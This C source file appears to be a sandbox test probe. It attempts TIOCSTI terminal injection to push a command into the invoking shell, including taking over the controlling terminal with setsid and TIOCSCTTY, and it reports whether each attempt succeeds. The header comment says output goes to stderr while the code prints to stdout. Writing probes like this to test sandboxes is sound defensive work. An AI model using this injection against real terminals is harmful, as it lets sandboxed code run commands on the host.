/* atk-ns-tiocsti: the attack of issue 19 item 8.  A sandboxed program
 * pushes a command into the terminal it was started from with TIOCSTI, so
 * that the invoking shell would read and run it on the host.  It tries its
 * stdin, stdout, stderr and /dev/tty, then setsid() + TIOCSCTTY (stealing
 * the terminal, arg 1) and TIOCSTI again.
 *
 * Usage: atk-ns-tiocsti TEXT
 *
 * Prints one line per attempt, "NAME = RET ERRNO" (RET is the number of
 * bytes of TEXT injected), on stderr's copy of fd 2 opened before anything
 * else, and exits 0.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int inject(int fd, const char *text)
{
	int n = 0;

	for (const char *p = text; *p; p++) {
		if (ioctl(fd, TIOCSTI, p) < 0)
			return -errno;
		n++;
	}
	return n;
}

static void report(const char *name, int r)
{
	printf("%s = %d %s\n", name, r < 0 ? -1 : r, r < 0 ? strerror(-r) : "0");
	fflush(stdout);
}

int main(int argc, char **argv)
{
	const char *text = argc > 1 ? argv[1] : "id\n";
	int tty = -1;

	report("stdin", inject(0, text));
	report("stdout", inject(1, text));
	report("stderr", inject(2, text));
	tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	report("devtty-open", tty < 0 ? -errno : 0);
	if (tty >= 0)
		report("devtty", inject(tty, text));
	report("setsid", setsid() < 0 ? -errno : 0);
	report("tiocsctty", ioctl(0, TIOCSCTTY, 1) < 0 ? -errno : 0);
	report("stdin-after", inject(0, text));
	return 0;
}
